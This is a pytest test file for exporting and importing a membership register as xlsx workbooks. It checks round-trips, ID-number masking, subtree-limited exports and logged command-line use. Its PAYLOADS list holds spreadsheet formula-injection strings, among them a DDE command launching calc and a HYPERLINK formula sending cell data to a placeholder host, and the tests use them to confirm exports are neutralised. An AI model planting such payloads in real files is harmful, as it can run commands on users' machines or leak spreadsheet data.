"""Exporting: the register comes back the same through a file, and no cell of it is run by a spreadsheet."""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.utils import translation
from openpyxl import load_workbook

from audit import journal
from audit.models import Access, Entry
from config.demo.building import Demo
from registry import exchange, organisations, posts
from registry.exchange.columns import KINDS
from registry.identity import is_valid
from registry.models import Member, Organisation, Person, Post, User
from tests.registry.exchange_files import empty_the_register, held, id_number, lines_of, member, xlsx

BY = journal.system("test")
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u3000=",
    "\ufeff=",
    "\u200b=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
]
BODIES = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://a/"&A1,"x")']
PAYLOADS = [start + body for start in STARTS for body in BODIES]
OTHERS = ["'", "''", "'=1", "O'Neill", " 前后空格 ", "一行\n两行", "a\r\nb", "a\tb", "_x0041_", "&lt;<b>&", '"', "𠀀𬭎䶮", "#N/A", "TRUE", "2026-11-24", "0123", "1e5"]  # fmt: skip


@pytest.fixture(autouse=True)
def _in_english() -> Iterator[None]:
    with translation.override("en"):
        yield


def test_the_register_comes_back_the_same_through_an_empty_database(world: Demo) -> None:
    Organisation.objects.filter(code="QH0102").update(address="=1+1", short_name=" '四\t号 ")
    posts.create_post(world.organisations["QH"], "registrar", by=BY)
    before, first = held(), exchange.export(with_id_numbers=True)
    empty_the_register()
    assert held()["Person"] == held()["Organisation"] == 0
    report = exchange.load(io.BytesIO(first), "登记.xlsx", by=BY)
    assert report.faults == []
    assert lines_of(exchange.export(with_id_numbers=True)) == lines_of(first)
    assert held() == before | {"Entry": before["Entry"] + 1}
    assert Organisation.objects.get(code="QH0102").address == "=1+1"


def test_importing_an_export_again_finds_everything_unchanged(world: Demo) -> None:
    before = held()
    report = exchange.load(io.BytesIO(exchange.export(with_id_numbers=True)), "登记.xlsx", by=BY)
    assert (report.faults, sum(report.created().values())) == ([], 0)
    assert {kind: tally.unchanged for kind, tally in report.tallies.items()} == {
        "organisations": before["Organisation"], "members": before["Member"], "posts": before["Appointment"],
    }  # fmt: skip
    assert held() == before | {"Entry": before["Entry"] + 1}


@pytest.mark.parametrize("payload", PAYLOADS + OTHERS)
def test_no_cell_is_active_and_every_text_comes_back(world: Demo, payload: str) -> None:
    Organisation.objects.filter(code="QH0101").update(
        address=payload, name=payload + "支部", document_word=payload[:12]
    )
    content = exchange.export(["organisations"])
    book = load_workbook(io.BytesIO(content))
    cells = [cell for row in book["组织"].iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [
        cell.value
        for cell in cells
        if re.match("[\\s\ufeff\u200b]*[=+\\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]", cell.value)
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    report = exchange.examine(io.BytesIO(content), "组织.xlsx")
    assert (report.faults, report.tallies["organisations"].unchanged) == ([], len(world.organisations))


def test_members_and_posts_have_no_active_cells_either(world: Demo) -> None:
    Person.objects.update(telephone="+86 13900000000", name="=A1", ethnic_group="@x")
    Post.objects.filter(organisation__code="QH0101", role="secretary").update(title="-1+1")
    lines = lines_of(exchange.export())
    texts = {cell for name in ("党员", "职务") for line in lines[name][1:] for cell in line if cell}
    assert {"'+86 13900000000", "'=A1", "'@x", "'-1+1"} <= texts
    assert not [text for text in texts if text.startswith(tuple("=+-@"))]


def test_characters_that_no_workbook_holds_do_not_stop_an_export(world: Demo) -> None:
    Organisation.objects.filter(code="QH0101").update(address="a\x07b")
    row = next(line for line in lines_of(exchange.export(["organisations"]))["组织"] if line[0] == "QH0101")
    assert row[8] == "a\ufffdb"


def test_without_leave_id_numbers_are_masked_and_such_a_file_cannot_be_imported(world: Demo) -> None:
    content = exchange.export()
    numbers = [line[4] for line in lines_of(content)["党员"][1:]] + [line[4] for line in lines_of(content)["职务"][1:]]
    assert {bool(re.fullmatch(r"\d{6}\*{8}[\dX]{4}", number)) for number in numbers} == {True}
    report = exchange.load(io.BytesIO(content), "登记.xlsx", by=BY)
    masked = "This ID number is masked; an import needs a file exported with ID numbers."
    assert {fault.reason for fault in report.faults} == {masked}
    assert report.faults_total == len(numbers)


def test_an_export_for_a_viewer_holds_his_subtree_only(world: Demo) -> None:
    county = Organisation.objects.filter(lineage__contains=[world.organisations["QH"].pk])
    lines = lines_of(exchange.export(organisations=county))
    codes = set(county.values_list("code", flat=True))
    assert {line[0] for line in lines["组织"][1:]} == codes
    assert {line[6] for line in lines["党员"][1:]} <= codes
    assert {line[0] for line in lines["职务"][1:]} <= codes
    assert list(lines_of(exchange.export(["members"], organisations=county))) == ["党员"]


def test_whoever_left_the_roll_is_not_given_back(world: Demo, ordinary_member: Member) -> None:
    count = len(lines_of(exchange.export(["members"]))["党员"])
    Member.objects.filter(pk=ordinary_member.pk).update(standing="removed")
    assert len(lines_of(exchange.export(["members"]))["党员"]) == count - 1


def test_a_holder_without_an_id_number_and_a_dissolved_place_come_back_too(world: Demo) -> None:
    place = organisations.found(by=BY, code="OLD", name="旧支部", level="branch", parent=world.organisations["QH01"])
    person = Person.objects.create(
        name="无号人", sex="F", born_on=dt.date(1950, 5, 5), ethnic_group="白", telephone="1"
    )
    post = posts.create_post(place, "secretary", by=BY)
    posts.appoint(post, person, by=BY, since=dt.date(1990, 1, 1), until=dt.date(1995, 1, 1))
    Organisation.objects.filter(pk=place.pk).update(dissolved_on=dt.date(1995, 1, 2))
    first = exchange.export(with_id_numbers=True)
    assert (
        "OLD",
        "书记",
        post.title,
        "无号人",
        None,
        "女",
        "1950-05-05",
        "白",
        "1",
        "1990-01-01",
        "1995-01-01",
        "否",
    ) in lines_of(first)["职务"]
    empty_the_register()
    assert exchange.load(io.BytesIO(first), "登记.xlsx", by=BY).faults == []
    assert lines_of(exchange.export(with_id_numbers=True)) == lines_of(first)


def test_the_template_offers_what_may_be_written(world: Demo) -> None:
    book = load_workbook(io.BytesIO(exchange.template()))
    assert book.sheetnames == ["组织", "党员", "职务", "说明"]
    for kind in KINDS:
        sheet = book[kind.title]
        assert [cell.value for cell in sheet[1]] == [c.title + "*" * c.required for c in kind.columns]
        assert [cell.comment.text for cell in sheet[1]] == [c.note for c in kind.columns]
        offered = {str(v.sqref).split("2")[0]: v.formula1 for v in sheet.data_validations.dataValidation}
        expected = {
            cell.column_letter: f'"{",".join(c.type.choices)}"'
            for cell, c in zip(sheet[1], kind.columns, strict=True)
            if c.type.choices
        }
        assert offered == expected
        assert {cell.number_format for row in sheet.iter_rows(min_row=2) for cell in row} == {"@"}


def test_the_examples_of_the_template_would_import(world: Demo) -> None:
    """Without the mark and under the demo's county they are a sound register."""
    book = load_workbook(io.BytesIO(exchange.template()))
    for row in (cell for sheet in book for line in sheet.iter_rows() for cell in line):
        if isinstance(row.value, str):
            row.value = {"示例-QH": "QH", "示例-QH01": "EX01", "示例-QH0101": "EX0101"}.get(
                row.value, row.value.removeprefix("示例-")
            )
    file = io.BytesIO()
    book.save(file)
    report = exchange.load(io.BytesIO(file.getvalue()), "a.xlsx", by=BY)
    assert [tuple(fault) for fault in report.faults] == []
    assert report.created() == {"organisations": 2, "persons": 3, "members": 2, "posts": 2, "appointments": 2}


# -- the commands ------------------------------------------------------------------------------------------------------


def run(capsys: pytest.CaptureFixture[str], *arguments: Any, **options: Any) -> tuple[int, str, str]:
    code = 0
    try:
        call_command(*arguments, **options)
    except SystemExit as left:
        code = int(left.code or 0)
    said = capsys.readouterr()
    return code, said.out, said.err


def test_the_command_imports_and_reports_as_json(
    world: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "名册.xlsx"
    path.write_bytes(xlsx(党员=[member()]).getvalue())
    before = held()
    code, out, _ = run(capsys, "import_register", path, "--dry-run", "--json")
    dry = json.loads(out)
    assert (code, dry["ok"], dry["import"], held()) == (0, True, None, before)
    user = User.objects.filter(is_active=True).first()
    assert user is not None
    code, out, err = run(capsys, "import_register", path, "--json", "--progress", "--user", user.username)
    report = json.loads(out)
    assert (code, report["ok"], report["rows"]["members"]["new"], report["rows_digest"]) == (
        0,
        True,
        1,
        dry["rows_digest"],
    )
    assert err == f"\r[{'#' * 40}] 100% 2/2\n"
    entry = Entry.objects.get(stream_kind="import", stream_id=report["import"])
    assert (entry.actor_kind, entry.actor_id) == ("user", str(user.pk))


def test_the_command_fails_with_the_mistakes_and_writes_nothing(
    world: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "名册.xlsx"
    path.write_bytes(xlsx(党员=[member(公民身份号码="", 性别="?") for _ in range(60)]).getvalue())
    before = held()
    code, out, _ = run(capsys, "import_register", path)
    assert (code, held()) == (1, before)
    assert out.splitlines()[1] == "members: 60 rows, 0 new, 0 unchanged, 60 with mistakes"
    assert out.splitlines()[3:] == [
        *(f"  党员 row {n} 性别: Write one of: 男、女." for n in range(2, 52)), "  ... 60 mistakes in all", "Nothing was imported.",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["import_register", "/nowhere/名册.xlsx"], "/nowhere/名册.xlsx: No such file or directory"),
        (["export_register", "/nowhere/登记.xlsx"], "/nowhere/登记.xlsx: No such file or directory"),
        (["export_register", "登记.xlsx", "--under", "XX"], "There is no organisation with code XX."),
    ],
)
def test_the_commands_say_what_is_missing(
    world: Demo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str], words: str
) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CommandError) as refused:
        call_command(*arguments)
    assert str(refused.value) == words


def test_an_unknown_user_imports_nothing(world: Demo, tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(xlsx(党员=[member()]).getvalue())
    with pytest.raises(CommandError, match=r"There is no active user nobody\."):
        call_command("import_register", path, "--user", "nobody")


def test_an_export_by_command_is_logged_and_for_its_owner_only(
    world: Demo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "登记.xlsx"
    run(
        capsys,
        "export_register",
        path,
        "--kind",
        "members",
        "--under",
        "QH01",
        "--with-id-numbers",
        "--purpose",
        "迁移",
    )
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    numbers = [line[4] for line in lines_of(path.read_bytes())["党员"][1:]]
    assert {is_valid(number) for number in numbers} == {True}
    access = Access.objects.latest("pk")
    assert (access.kind, access.object_id, access.what, access.purpose) == (
        "register",
        "QH01",
        "export with ID numbers",
        "迁移",
    )
    assert is_valid(id_number())
